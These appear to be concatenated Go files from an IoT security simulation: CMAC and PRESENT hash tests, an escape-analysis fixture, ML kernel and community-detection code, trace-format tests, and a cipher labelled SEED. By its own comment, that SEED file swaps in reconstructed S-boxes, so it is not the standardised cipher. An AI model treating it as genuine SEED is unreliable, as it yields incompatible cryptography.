			t.Errorf("case %d: CMAC = %x, want %s", i, got, tc.want)
		}
	}
}

// TestCMACOver64BitCipher exercises CMAC over PRESENT (64-bit block).
func TestCMACOver64BitCipher(t *testing.T) {
	blk, err := NewPRESENT(bytes.Repeat([]byte{7}, 10))
	if err != nil {
		t.Fatal(err)
	}
	mac, err := NewCMAC(blk)
	if err != nil {
		t.Fatal(err)
	}
	mac.Write([]byte("hello iot"))
	tag1 := mac.Sum(nil)
	if len(tag1) != 8 {
		t.Fatalf("tag length = %d, want 8", len(tag1))
	}
	// Sum must not disturb the running state.
	tag2 := mac.Sum(nil)
	if !bytes.Equal(tag1, tag2) {
		t.Error("repeated Sum differs")
	}
	// Incremental writes equal a single write.
	mac.Reset()
	mac.Write([]byte("hello"))
	mac.Write([]byte(" iot"))
	tag3 := mac.Sum(nil)
	if !bytes.Equal(tag1, tag3) {
		t.Errorf("incremental CMAC = %x, want %x", tag3, tag1)
	}
}

func TestCMACRejectsTinyBlock(t *testing.T) {
	blk, err := NewHummingbird2(make([]byte, 32))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := NewCMAC(blk); err == nil {
		t.Error("NewCMAC accepted a 16-bit block cipher")
	}
}

// TestCMACDistinguishesMessages is a property test: distinct short
// messages get distinct tags (w.h.p. for a 128-bit MAC).
func TestCMACDistinguishesMessages(t *testing.T) {
	key := bytes.Repeat([]byte{0x42}, 16)
	blk, err := aes.NewCipher(key)
	if err != nil {
		t.Fatal(err)
	}
	f := func(a, b []byte) bool {
		if bytes.Equal(a, b) {
			return true
		}
		m1, _ := NewCMAC(blk)
		m2, _ := NewCMAC(blk)
		m1.Write(a)
		m2.Write(b)
		return !bytes.Equal(m1.Sum(nil), m2.Sum(nil))
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

func TestDMPresentBasics(t *testing.T) {
	d := NewDMPresent()
	d.Write([]byte("firmware v1.0"))
	h1 := d.Sum(nil)
	if len(h1) != 8 {
		t.Fatalf("digest length = %d, want 8", len(h1))
	}
	// Repeated Sum is stable.
	if !bytes.Equal(h1, d.Sum(nil)) {
		t.Error("repeated Sum differs")
	}
	// Reset restores the initial state.
	d.Reset()
	d.Write([]byte("firmware v1.0"))
	if !bytes.Equal(h1, d.Sum(nil)) {
		t.Error("Reset+rehash differs")
	}
	// Incremental equals one-shot.
	d.Reset()
	d.Write([]byte("firmware"))
	d.Write([]byte(" v1.0"))
	if !bytes.Equal(h1, d.Sum(nil)) {
		t.Error("incremental hash differs")
	}
}

func TestDMPresentLengthStrengthening(t *testing.T) {
	// Messages that are prefixes must not collide (padding includes the
	// length, so "a" and "a\x00" differ).
	if Sum64([]byte("a")) == Sum64([]byte("a\x00")) {
		t.Error("length extension collision")
	}
	if Sum64(nil) == Sum64([]byte{0x80}) {
		t.Error("empty message collides with its padding")
	}
}

func TestDMPresentDistinguishes(t *testing.T) {
	f := func(a, b []byte) bool {
		if bytes.Equal(a, b) {
			return Sum64(a) == Sum64(b)
		}
		return Sum64(a) != Sum64(b)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}
