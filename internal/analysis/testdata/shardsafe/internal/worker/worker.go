// Package worker sits inside the sim ownership domain's holder set: it
// may build, hold and return kernels, but never let one escape.
package worker

import "example.com/m/internal/sim"

var cached *sim.Kernel

var sink *sim.Kernel

var last sim.Handle

// Boot leaks a fresh kernel into package-level state.
func Boot(seed int64) {
	k := sim.NewKernel(seed)
	cached = k // want "sim-owned value escapes its domain: stored into package-level var worker.cached"
}

// Keep is waived: the marker suppresses the finding on this line.
func Keep(seed int64) {
	k := sim.NewKernel(seed)
	cached = k //xlf:allow-shardsafe: fixture waiver
}

// Spawn hands an owned kernel to a goroutine by closure capture.
func Spawn(seed int64) {
	k := sim.NewKernel(seed)
	go func() { // want "sim-owned value escapes its domain: captured by a go statement.s closure .via k."
		k.Step()
	}()
}

// Feed sends an owned kernel on a channel.
func Feed(ch chan *sim.Kernel, seed int64) {
	k := sim.NewKernel(seed)
	ch <- k // want "sim-owned value escapes its domain: sent on a channel"
}

// Fresh forwards the constructor from inside the holder set: a
// producer, not an escape.
func Fresh(seed int64) *sim.Kernel { return sim.NewKernel(seed) }

// stash leaks its parameter into package state; the finding lands on
// its callers.
func stash(k *sim.Kernel) {
	sink = k
}

// relay forwards its parameter to the leaking helper.
func relay(k *sim.Kernel) { stash(k) }

// Hand gives an owned kernel straight to the leaking helper.
func Hand(seed int64) {
	k := sim.NewKernel(seed)
	stash(k) // want "call to worker.stash lets the sim-owned argument escape .stored into package-level var worker.sink; via worker.stash."
}

// Hand2 leaks through two levels; the witness chain names the path.
func Hand2(seed int64) {
	k := sim.NewKernel(seed)
	relay(k) // want "call to worker.relay lets the sim-owned argument escape .handed on to worker.stash; via worker.relay → worker.stash."
}

// Post sends a generation token across a channel.
func Post(ch chan sim.Handle, k *sim.Kernel) {
	h := k.Schedule(5)
	ch <- h // want "sim.Handle sent on a channel"
}

// Detach captures a token in a spawned goroutine.
func Detach(k *sim.Kernel) {
	h := k.Schedule(5)
	go func() { // want "sim.Handle captured by a go statement.s closure .via h."
		_ = h
	}()
}

// Save parks a token in package-level state.
func Save(k *sim.Kernel) {
	h := k.Schedule(9)
	last = h // want "sim.Handle stored into package-level var worker.last"
}
