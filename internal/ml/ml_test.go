package ml

import (
	"math"
	"math/rand"
	"testing"
)

func TestKernelConstructors(t *testing.T) {
	if _, err := NewRBFKernel("bogus", 1); err == nil {
		t.Error("bad layer accepted")
	}
	if _, err := NewRBFKernel("device", -1); err == nil {
		t.Error("negative gamma accepted")
	}
	if _, err := NewLinearKernel("bogus"); err == nil {
		t.Error("bad layer accepted")
	}
	if _, err := NewSpectrumKernel(0); err == nil {
		t.Error("p=0 accepted")
	}
}

func TestRBFKernelProperties(t *testing.T) {
	k, _ := NewRBFKernel("network", 0.5)
	a := Sample{Network: []float64{1, 2}}
	b := Sample{Network: []float64{1, 2}}
	c := Sample{Network: []float64{5, 9}}
	if v := k.K(a, b); math.Abs(v-1) > 1e-12 {
		t.Errorf("K(x,x) = %v, want 1", v)
	}
	if k.K(a, c) >= k.K(a, b) {
		t.Error("distant pair not less similar")
	}
	if k.K(a, Sample{}) != 0 {
		t.Error("empty view not neutral")
	}
	if k.K(a, b) != k.K(b, a) {
		t.Error("not symmetric")
	}
}

func TestLinearKernel(t *testing.T) {
	k, _ := NewLinearKernel("device")
	a := Sample{Device: []float64{2, 3}}
	b := Sample{Device: []float64{4, 1}}
	if got := k.K(a, b); got != 11 {
		t.Errorf("dot = %v, want 11", got)
	}
	if k.K(a, Sample{Device: []float64{1}}) != 0 {
		t.Error("length mismatch not neutral")
	}
}

func TestSpectrumKernel(t *testing.T) {
	k, _ := NewSpectrumKernel(2)
	a := Sample{Events: []string{"on", "off", "on", "off"}}
	b := Sample{Events: []string{"on", "off", "on"}}
	c := Sample{Events: []string{"scan", "scan", "beacon"}}
	if v := k.K(a, a); math.Abs(v-1) > 1e-12 {
		t.Errorf("K(x,x) = %v, want 1", v)
	}
	if k.K(a, b) <= k.K(a, c) {
		t.Errorf("shared-bigram pair (%v) not more similar than disjoint (%v)", k.K(a, b), k.K(a, c))
	}
	if k.K(a, Sample{}) != 0 {
		t.Error("empty sequence not neutral")
	}
	// Distinct events must not alias across gram boundaries.
	x := Sample{Events: []string{"ab", "c"}}
	y := Sample{Events: []string{"a", "bc"}}
	if k.K(x, y) != 0 {
		t.Error("gram separator aliasing")
	}
}

// synthSamples builds a separable 2-class problem: malicious samples have
// high network fan-out and scan-ish event sequences.
func synthSamples(rng *rand.Rand, n int) []Sample {
	var out []Sample
	for i := 0; i < n; i++ {
		if i%2 == 0 { // benign
			out = append(out, Sample{
				Device:  []float64{rng.Float64() * 0.2, 1},
				Network: []float64{rng.Float64() * 0.3, rng.Float64() * 0.2},
				Events:  []string{"on", "off", "on", "off", "dim"},
				Label:   -1,
			})
		} else { // malicious
			out = append(out, Sample{
				Device:  []float64{0.8 + rng.Float64()*0.2, 0},
				Network: []float64{0.7 + rng.Float64()*0.3, 0.8 + rng.Float64()*0.2},
				Events:  []string{"scan", "scan", "beacon", "scan", "flood"},
				Label:   1,
			})
		}
	}
	return out
}

func TestMKLLearnsSeparableProblem(t *testing.T) {
	rng := rand.New(rand.NewSource(21))
	train := synthSamples(rng, 40)
	test := synthSamples(rng, 40)

	kd, _ := NewRBFKernel("device", 1)
	kn, _ := NewRBFKernel("network", 1)
	ks, _ := NewSpectrumKernel(2)
	m, err := NewMKL(kd, kn, ks)
	if err != nil {
		t.Fatal(err)
	}
	if err := m.Fit(train, 20); err != nil {
		t.Fatal(err)
	}
	if acc := m.Accuracy(test); acc < 0.95 {
		t.Errorf("accuracy = %v, want >= 0.95 on separable data", acc)
	}
	w := m.Weights()
	var sum float64
	for _, x := range w {
		if x < 0 {
			t.Errorf("negative weight %v", x)
		}
		sum += x
	}
	if math.Abs(sum-1) > 1e-9 {
		t.Errorf("weights sum to %v, want 1", sum)
	}
	if len(m.KernelNames()) != 3 {
		t.Error("kernel names missing")
	}
}

func TestMKLBeatsUselessKernel(t *testing.T) {
	rng := rand.New(rand.NewSource(33))
	train := synthSamples(rng, 40)
	// The "service" layer features are absent, making that kernel
	// uninformative; its alignment weight must be ~0.
	useless, _ := NewRBFKernel("service", 1)
	informative, _ := NewRBFKernel("network", 1)
	m, _ := NewMKL(useless, informative)
	if err := m.Fit(train, 20); err != nil {
		t.Fatal(err)
	}
	w := m.Weights()
	if w[0] > 0.1 {
		t.Errorf("useless kernel weight = %v, want ~0", w[0])
	}
	if w[1] < 0.9 {
		t.Errorf("informative kernel weight = %v, want ~1", w[1])
	}
}

func TestMKLValidation(t *testing.T) {
	if _, err := NewMKL(); err == nil {
		t.Error("no kernels accepted")
	}
	k, _ := NewLinearKernel("device")
	m, _ := NewMKL(k)
	if err := m.Fit(nil, 5); err == nil {
		t.Error("empty training set accepted")
	}
	if err := m.Fit([]Sample{{Label: 0}}, 5); err == nil {
		t.Error("label 0 accepted")
	}
}

func TestGraphBasics(t *testing.T) {
	g := NewGraph()
	g.AddEdge("a", "b", 2)
	g.AddEdge("b", "c", 1)
	g.AddEdge("a", "a", 5) // self-loop ignored
	g.AddEdge("a", "c", 0) // non-positive ignored
	if got := len(g.Nodes()); got != 3 {
		t.Errorf("nodes = %d, want 3", got)
	}
	if d := g.Degree("b"); d != 3 {
		t.Errorf("degree(b) = %v, want 3", d)
	}
	if w := g.TotalWeight(); w != 3 {
		t.Errorf("total weight = %v, want 3", w)
	}
}

// twoCliques builds two dense 5-cliques joined by one weak edge.
func twoCliques() *Graph {
	g := NewGraph()
	left := []string{"l0", "l1", "l2", "l3", "l4"}
	right := []string{"r0", "r1", "r2", "r3", "r4"}
	for i := range left {
		for j := i + 1; j < len(left); j++ {
			g.AddEdge(left[i], left[j], 1)
			g.AddEdge(right[i], right[j], 1)
		}
	}
	g.AddEdge("l0", "r0", 0.1)
	return g
}

func TestLabelPropagationFindsCliques(t *testing.T) {
	g := twoCliques()
	labels := g.LabelPropagation(50)
	comms := Communities(labels)
	if len(comms) != 2 {
		t.Fatalf("communities = %d (%v), want 2", len(comms), comms)
	}
	for _, c := range comms {
		if len(c) != 5 {
			t.Errorf("community size = %d, want 5: %v", len(c), c)
		}
		prefix := c[0][0]
		for _, n := range c {
			if n[0] != prefix {
				t.Errorf("mixed community: %v", c)
			}
		}
	}
	if q := g.Modularity(labels); q < 0.3 {
		t.Errorf("modularity = %v, want > 0.3 for clean cliques", q)
	}
}

func TestLabelPropagationDeterministic(t *testing.T) {
	a := twoCliques().LabelPropagation(50)
	b := twoCliques().LabelPropagation(50)
	for n, l := range a {
		if b[n] != l {
			t.Fatalf("nondeterministic labels at %s", n)
		}
	}
}

func TestModularityOfTrivialPartition(t *testing.T) {
	g := twoCliques()
	// Everything in one community: modularity ~0.
	labels := make(map[string]string)
	for _, n := range g.Nodes() {
		labels[n] = "all"
	}
	if q := g.Modularity(labels); math.Abs(q) > 1e-9 {
		t.Errorf("single-community modularity = %v, want 0", q)
	}
	empty := NewGraph()
	if q := empty.Modularity(map[string]string{}); q != 0 {
		t.Errorf("empty graph modularity = %v", q)
	}
}

func TestFromSimilarity(t *testing.T) {
	k, _ := NewRBFKernel("network", 1)
	samples := []Sample{
		{Network: []float64{0, 0}},
		{Network: []float64{0.1, 0}},
		{Network: []float64{5, 5}},
	}
	g, err := FromSimilarity([]string{"a", "b", "c"}, samples, k, 0.5)
	if err != nil {
		t.Fatal(err)
	}
	if g.Degree("a") == 0 || g.adj["a"]["c"] != 0 {
		t.Error("similarity edges wrong")
	}
	if _, err := FromSimilarity([]string{"x"}, samples, k, 0.5); err == nil {
		t.Error("length mismatch accepted")
	}
}

func TestCommunityOutliers(t *testing.T) {
	g := twoCliques()
	// Add a weakly-connected member to the left community.
	g.AddEdge("weak", "l0", 0.05)
	labels := g.LabelPropagation(50)
	// Force the weak node into the left community for the outlier check.
	labels["weak"] = labels["l0"]
	outliers := g.CommunityOutliers(labels, 2)
	found := false
	for _, o := range outliers {
		if o == "weak" {
			found = true
		}
		if o[0] == 'r' {
			t.Errorf("clique member %s flagged", o)
		}
	}
	if !found {
		t.Error("weak member not flagged as outlier")
	}
}
