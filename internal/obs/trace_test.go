package obs

import (
	"bytes"
	"strings"
	"testing"
	"time"
)

func sampleSpans() []Span {
	return []Span{
		{Seq: 7, Time: 1000, Layer: LayerDevice, Op: "keepalive", Device: "cam-1", Cause: "sealed"},
		{Seq: 9, Time: 2000, Dur: 500, Layer: LayerNetsim, Op: "deliver", Device: "cam-1"},
		{Seq: 12, Time: 3000, Layer: LayerCore, Op: "alert", Device: "cam-1", Cause: "dpi:mirai-loader", Detail: "conf=0.90"},
	}
}

// TestTraceGolden pins the exact xlf-trace/v1 wire format. If this test
// breaks, the schema changed: bump TraceSchema.
func TestTraceGolden(t *testing.T) {
	var buf bytes.Buffer
	meta := TraceMeta{Seed: 7, Clock: "step", Source: "test", Evicted: 2}
	if err := WriteTrace(&buf, meta, sampleSpans()); err != nil {
		t.Fatal(err)
	}
	want := strings.Join([]string{
		`{"schema":"xlf-trace/v1","seed":7,"clock":"step","source":"test","spans":3,"evicted":2}`,
		`{"seq":1,"t_ns":1000,"layer":"device","op":"keepalive","device":"cam-1","cause":"sealed"}`,
		`{"seq":2,"t_ns":2000,"dur_ns":500,"layer":"netsim","op":"deliver","device":"cam-1"}`,
		`{"seq":3,"t_ns":3000,"layer":"core","op":"alert","device":"cam-1","cause":"dpi:mirai-loader","detail":"conf=0.90"}`,
		``,
	}, "\n")
	if got := buf.String(); got != want {
		t.Errorf("golden mismatch:\ngot:\n%s\nwant:\n%s", got, want)
	}
}

func TestTraceRoundTrip(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteTrace(&buf, TraceMeta{Seed: 3, Clock: "step"}, sampleSpans()); err != nil {
		t.Fatal(err)
	}
	meta, spans, err := ReadTrace(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if meta.Schema != TraceSchema || meta.Seed != 3 || meta.Spans != 3 {
		t.Errorf("meta = %+v", meta)
	}
	for i, s := range spans {
		// WriteTrace renumbers into file order.
		if s.Seq != uint64(i+1) {
			t.Errorf("span %d seq = %d", i, s.Seq)
		}
	}
	if spans[1].Dur != 500 || spans[2].Detail != "conf=0.90" {
		t.Errorf("round trip lost fields: %+v", spans)
	}
}

func TestTraceSchemaRejection(t *testing.T) {
	cases := map[string]string{
		"unknown version": `{"schema":"xlf-trace/v999","seed":1,"clock":"step","spans":0}`,
		"bench schema":    `{"schema":"xlf-bench/v1","seed":1,"clock":"step","spans":0}`,
		"missing clock":   `{"schema":"xlf-trace/v1","seed":1,"spans":0}`,
		"negative spans":  `{"schema":"xlf-trace/v1","seed":1,"clock":"step","spans":-1}`,
		"not json":        `schema? what schema`,
	}
	for name, header := range cases {
		if _, _, err := ReadTrace(strings.NewReader(header + "\n")); err == nil {
			t.Errorf("%s: ReadTrace accepted %q", name, header)
		}
	}
	if _, _, err := ReadTrace(strings.NewReader("")); err == nil {
		t.Error("ReadTrace accepted an empty file")
	}
}

// TestTraceTruncation: a file whose span count disagrees with the header
// is rejected — short means truncated, long means corrupted.
func TestTraceTruncation(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteTrace(&buf, TraceMeta{Seed: 1, Clock: "step"}, sampleSpans()); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimRight(buf.String(), "\n"), "\n")
	short := strings.Join(lines[:len(lines)-1], "\n") + "\n"
	if _, _, err := ReadTrace(strings.NewReader(short)); err == nil {
		t.Error("ReadTrace accepted a truncated trace")
	}
	long := buf.String() + lines[1] + "\n"
	if _, _, err := ReadTrace(strings.NewReader(long)); err == nil {
		t.Error("ReadTrace accepted a trace with extra spans")
	}
}

// TestWriteTraceFromRing: exporting a tracer that evicted keeps file
// order and reports the eviction count, mirroring the artifact tests'
// eviction coverage.
func TestWriteTraceFromRing(t *testing.T) {
	tr := NewTracer(4, nil)
	for i := 0; i < 10; i++ {
		tr.EmitAt(time.Duration(i), LayerSim, "event", "", "")
	}
	var buf bytes.Buffer
	if err := WriteTrace(&buf, TraceMeta{Seed: 1, Clock: "step", Evicted: tr.Evicted()}, tr.Spans()); err != nil {
		t.Fatal(err)
	}
	meta, spans, err := ReadTrace(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if meta.Evicted != 6 || meta.Spans != 4 {
		t.Errorf("meta = %+v, want 6 evicted / 4 spans", meta)
	}
	for i, s := range spans {
		if s.Time != time.Duration(6+i) {
			t.Errorf("span %d time = %d, want %d (oldest survivors first)", i, s.Time, 6+i)
		}
	}
}
