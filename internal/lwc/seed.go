package lwc

import (
	"crypto/cipher"
	"encoding/binary"
	"math/bits"
)

// SEED (KISA, RFC 4269) is a 128-bit block, 128-bit key, 16-round Feistel
// cipher. This is a structure-faithful reimplementation: the Feistel
// skeleton, F/G function shape, golden-ratio key-schedule constants and
// half-rotating key schedule follow the specification, while the two 8-bit
// S-boxes are reconstructed deterministically (the published SS-box tables
// are not reproduced from memory). Validated by round-trip and avalanche
// property tests; see the package comment on implementation fidelity.

type seed struct {
	k0, k1       [16]uint32 // round subkeys
	sbox1, sbox2 [256]byte
}

var _ cipher.Block = (*seed)(nil)

// seedSBoxes returns the two reconstructed 8-bit S-boxes: s1 is the AES
// S-box (a maximally nonlinear permutation); s2 is its self-composition,
// which is again a permutation.
func seedSBoxes() (s1, s2 [256]byte) {
	s1 = aesSBox()
	for i := range s2 {
		s2[i] = s1[s1[i]]
	}
	return s1, s2
}

// aesSBox computes the AES S-box algebraically (multiplicative inverse in
// GF(2^8) followed by the affine transform), avoiding a hand-typed table.
func aesSBox() [256]byte {
	var box [256]byte
	inv := gf256Inverses()
	for i := 0; i < 256; i++ {
		x := inv[i]
		box[i] = x ^ bits.RotateLeft8(x, 1) ^ bits.RotateLeft8(x, 2) ^
			bits.RotateLeft8(x, 3) ^ bits.RotateLeft8(x, 4) ^ 0x63
	}
	return box
}

// gf256Inverses returns multiplicative inverses in GF(2^8) with the AES
// polynomial x^8+x^4+x^3+x+1 (0 maps to 0).
func gf256Inverses() [256]byte {
	mul := func(a, b byte) byte {
		var p byte
		for b != 0 {
			if b&1 != 0 {
				p ^= a
			}
			hi := a & 0x80
			a <<= 1
			if hi != 0 {
				a ^= 0x1B
			}
			b >>= 1
		}
		return p
	}
	var inv [256]byte
	for a := 1; a < 256; a++ {
		// a^254 = a^-1 in GF(2^8)*.
		x := byte(a)
		r := byte(1)
		for e := 254; e > 0; e >>= 1 {
			if e&1 == 1 {
				r = mul(r, x)
			}
			x = mul(x, x)
		}
		inv[a] = r
	}
	return inv
}

// seedG is the SEED G function shape: byte-wise S-box substitution followed
// by mask-and-rotate diffusion.
func seedG(x uint32, s1, s2 *[256]byte) uint32 {
	b0 := s1[byte(x)]
	b1 := s2[byte(x>>8)]
	b2 := s1[byte(x>>16)]
	b3 := s2[byte(x>>24)]
	y := uint32(b0) | uint32(b1)<<8 | uint32(b2)<<16 | uint32(b3)<<24
	return y ^ bits.RotateLeft32(y, 8) ^ bits.RotateLeft32(y, 16)
}

// NewSEED returns the SEED cipher for a 16-byte key.
func NewSEED(key []byte) (cipher.Block, error) {
	if len(key) != 16 {
		return nil, KeySizeError{Algorithm: "SEED", Len: len(key)}
	}
	s1, s2 := seedSBoxes()
	a := binary.BigEndian.Uint32(key[0:])
	b := binary.BigEndian.Uint32(key[4:])
	cc := binary.BigEndian.Uint32(key[8:])
	d := binary.BigEndian.Uint32(key[12:])

	// KC constants: doubled golden-ratio sequence per the SEED spec.
	var kc [16]uint32
	kc[0] = 0x9E3779B9
	for i := 1; i < 16; i++ {
		kc[i] = bits.RotateLeft32(kc[i-1], 1)
	}

	var c seed
	for i := 0; i < 16; i++ {
		c.k0[i] = seedG(a+cc-kc[i], &s1, &s2)
		c.k1[i] = seedG(b-d+kc[i], &s1, &s2)
		if i%2 == 0 {
			// Rotate A||B right by 8.
			na := a>>8 | b<<24
			nb := b>>8 | a<<24
			a, b = na, nb
		} else {
			// Rotate C||D left by 8.
			nc := cc<<8 | d>>24
			nd := d<<8 | cc>>24
			cc, d = nc, nd
		}
	}
	c.sbox1, c.sbox2 = s1, s2
	return &c, nil
}

func (c *seed) BlockSize() int { return 16 }

// seedF is the SEED F function: two G passes interleaved with modular
// additions, keyed by (k0, k1).
func (c *seed) seedF(r0, r1, k0, k1 uint32) (uint32, uint32) {
	t0 := r0 ^ k0
	t1 := r1 ^ k1
	t1 ^= t0
	t1 = seedG(t1, &c.sbox1, &c.sbox2)
	t0 += t1
	t0 = seedG(t0, &c.sbox1, &c.sbox2)
	t1 += t0
	t1 = seedG(t1, &c.sbox1, &c.sbox2)
	t0 += t1
	return t0, t1
}

func (c *seed) Encrypt(dst, src []byte) {
	checkBlock("SEED", 16, dst, src)
	l0 := binary.BigEndian.Uint32(src[0:])
	l1 := binary.BigEndian.Uint32(src[4:])
	r0 := binary.BigEndian.Uint32(src[8:])
	r1 := binary.BigEndian.Uint32(src[12:])
	for i := 0; i < 16; i++ {
		f0, f1 := c.seedF(r0, r1, c.k0[i], c.k1[i])
		nl0, nl1 := r0, r1
		r0, r1 = l0^f0, l1^f1
		l0, l1 = nl0, nl1
	}
	// Undo the last swap, as in classic Feistel ciphers.
	binary.BigEndian.PutUint32(dst[0:], r0)
	binary.BigEndian.PutUint32(dst[4:], r1)
	binary.BigEndian.PutUint32(dst[8:], l0)
	binary.BigEndian.PutUint32(dst[12:], l1)
}

func (c *seed) Decrypt(dst, src []byte) {
	checkBlock("SEED", 16, dst, src)
	l0 := binary.BigEndian.Uint32(src[0:])
	l1 := binary.BigEndian.Uint32(src[4:])
	r0 := binary.BigEndian.Uint32(src[8:])
	r1 := binary.BigEndian.Uint32(src[12:])
	for i := 15; i >= 0; i-- {
		f0, f1 := c.seedF(r0, r1, c.k0[i], c.k1[i])
		nl0, nl1 := r0, r1
		r0, r1 = l0^f0, l1^f1
		l0, l1 = nl0, nl1
	}
	binary.BigEndian.PutUint32(dst[0:], r0)
	binary.BigEndian.PutUint32(dst[4:], r1)
	binary.BigEndian.PutUint32(dst[8:], l0)
	binary.BigEndian.PutUint32(dst[12:], l1)
}
