package ml

import (
	"fmt"
	"math"
	"sort"
)

// Graph is a weighted undirected graph over string-identified nodes, built
// from behavioural similarity: the paper's §IV-D proposes grouping users
// or devices "running the same IoT devices and similar automation
// applications" into communities whose shared behaviour sharpens
// detection.
type Graph struct {
	adj   map[string]map[string]float64
	nodes []string
}

// NewGraph returns an empty graph.
func NewGraph() *Graph {
	return &Graph{adj: make(map[string]map[string]float64)}
}

// AddNode ensures a node exists.
func (g *Graph) AddNode(id string) {
	if _, ok := g.adj[id]; !ok {
		g.adj[id] = make(map[string]float64)
		g.nodes = append(g.nodes, id)
	}
}

// AddEdge adds/updates an undirected weighted edge. Self-loops and
// non-positive weights are ignored.
func (g *Graph) AddEdge(a, b string, w float64) {
	if a == b || w <= 0 {
		return
	}
	g.AddNode(a)
	g.AddNode(b)
	g.adj[a][b] = w
	g.adj[b][a] = w
}

// Nodes returns node IDs in insertion order (a copy).
func (g *Graph) Nodes() []string { return append([]string(nil), g.nodes...) }

// Degree returns a node's weighted degree.
func (g *Graph) Degree(id string) float64 {
	var d float64
	for _, w := range g.adj[id] {
		d += w
	}
	return d
}

// TotalWeight returns the sum of edge weights (each edge once).
func (g *Graph) TotalWeight() float64 {
	var t float64
	for a, nbrs := range g.adj {
		for b, w := range nbrs {
			if a < b {
				t += w
			}
		}
	}
	return t
}

// FromSimilarity builds a graph connecting samples whose kernel similarity
// exceeds threshold. IDs index into the sample slice via ids[i].
func FromSimilarity(ids []string, samples []Sample, k Kernel, threshold float64) (*Graph, error) {
	if len(ids) != len(samples) {
		return nil, fmt.Errorf("ml: ids (%d) and samples (%d) mismatch", len(ids), len(samples))
	}
	g := NewGraph()
	for _, id := range ids {
		g.AddNode(id)
	}
	for i := range samples {
		for j := i + 1; j < len(samples); j++ {
			if w := k.K(samples[i], samples[j]); w > threshold {
				g.AddEdge(ids[i], ids[j], w)
			}
		}
	}
	return g, nil
}

// LabelPropagation detects communities: every node starts in its own
// community and repeatedly adopts the weight-heaviest label among its
// neighbours. Deterministic: nodes are processed in sorted order with
// lexicographic tie-breaks. Returns node -> community label.
func (g *Graph) LabelPropagation(maxIters int) map[string]string {
	labels := make(map[string]string, len(g.nodes))
	order := append([]string(nil), g.nodes...)
	sort.Strings(order)
	for _, n := range order {
		labels[n] = n
	}
	if maxIters <= 0 {
		maxIters = 50
	}
	for it := 0; it < maxIters; it++ {
		changed := false
		for _, n := range order {
			if len(g.adj[n]) == 0 {
				continue
			}
			weight := make(map[string]float64)
			for nbr, w := range g.adj[n] {
				weight[labels[nbr]] += w
			}
			// Deterministic argmax: highest weight, then smallest label.
			best := labels[n]
			bestW := weight[best]
			cands := make([]string, 0, len(weight))
			for l := range weight {
				cands = append(cands, l)
			}
			sort.Strings(cands)
			for _, l := range cands {
				if weight[l] > bestW {
					best, bestW = l, weight[l]
				}
			}
			if best != labels[n] {
				labels[n] = best
				changed = true
			}
		}
		if !changed {
			break
		}
	}
	return labels
}

// Communities groups nodes by label, largest first.
func Communities(labels map[string]string) [][]string {
	byLabel := make(map[string][]string)
	for n, l := range labels {
		byLabel[l] = append(byLabel[l], n)
	}
	out := make([][]string, 0, len(byLabel))
	for _, members := range byLabel {
		sort.Strings(members)
		out = append(out, members)
	}
	sort.Slice(out, func(i, j int) bool {
		if len(out[i]) != len(out[j]) {
			return len(out[i]) > len(out[j])
		}
		return out[i][0] < out[j][0]
	})
	return out
}

// Modularity scores a partition (Newman's Q in [-0.5, 1]); higher means
// denser within-community structure.
func (g *Graph) Modularity(labels map[string]string) float64 {
	m := g.TotalWeight()
	if m == 0 {
		return 0
	}
	var q float64
	for _, a := range g.nodes {
		for _, b := range g.nodes {
			if labels[a] != labels[b] {
				continue
			}
			w := g.adj[a][b]
			q += w - g.Degree(a)*g.Degree(b)/(2*m)
		}
	}
	return q / (2 * m)
}

// CommunityOutliers finds nodes whose connection into their own community
// is weak relative to the community average — §IV-D's "particular signals
// associated with events through correlations": a member behaving unlike
// its peers.
func (g *Graph) CommunityOutliers(labels map[string]string, factor float64) []string {
	type stat struct {
		sum float64
		n   int
	}
	internal := make(map[string]float64)
	commStat := make(map[string]*stat)
	for _, n := range g.nodes {
		var in float64
		for nbr, w := range g.adj[n] {
			if labels[nbr] == labels[n] {
				in += w
			}
		}
		internal[n] = in
		s := commStat[labels[n]]
		if s == nil {
			s = &stat{}
			commStat[labels[n]] = s
		}
		s.sum += in
		s.n++
	}
	var out []string
	for _, n := range g.nodes {
		s := commStat[labels[n]]
		if s.n < 3 {
			continue // too small to judge
		}
		avg := s.sum / float64(s.n)
		if avg > 0 && internal[n] < avg/math.Max(factor, 1) {
			out = append(out, n)
		}
	}
	sort.Strings(out)
	return out
}
