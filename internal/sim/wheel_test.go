package sim

import (
	"container/heap"
	"fmt"
	"math/rand"
	"testing"
	"time"
)

// The timer wheel must be observationally identical to the textbook
// binary-heap scheduler it replaced: same execution order (at, then
// scheduling seq), same clock movement, same cancellation semantics.
// The tests here run arbitrary schedule/cancel/nested-schedule programs
// against both and require byte-identical logs.

// refKernel is the reference implementation: the pre-wheel scheduler,
// a straight container/heap min-heap ordered by (at, seq).
type refKernel struct {
	now time.Duration
	seq uint64
	h   refHeap
}

type refEvent struct {
	at       time.Duration
	seq      uint64
	fn       func()
	canceled bool
}

type refHeap []*refEvent

func (h refHeap) Len() int { return len(h) }
func (h refHeap) Less(i, j int) bool {
	if h[i].at != h[j].at {
		return h[i].at < h[j].at
	}
	return h[i].seq < h[j].seq
}
func (h refHeap) Swap(i, j int)         { h[i], h[j] = h[j], h[i] }
func (h *refHeap) Push(x any)           { *h = append(*h, x.(*refEvent)) }
func (h *refHeap) Pop() any             { old := *h; n := len(old); e := old[n-1]; *h = old[:n-1]; return e }
func (k *refKernel) Now() time.Duration { return k.now }

func (k *refKernel) Schedule(delay time.Duration, fn func()) func() {
	if delay < 0 {
		delay = 0
	}
	at := k.now + delay
	k.seq++
	e := &refEvent{at: at, seq: k.seq, fn: fn}
	heap.Push(&k.h, e)
	return func() { e.canceled = true }
}

func (k *refKernel) Run(until time.Duration) {
	if until < k.now {
		return
	}
	for len(k.h) > 0 && k.h[0].at <= until {
		e := heap.Pop(&k.h).(*refEvent)
		if e.canceled {
			continue
		}
		k.now = e.at
		e.fn()
	}
	if k.now < until {
		k.now = until
	}
}

// scheduler is the surface the differential driver needs from either
// implementation.
type scheduler interface {
	Now() time.Duration
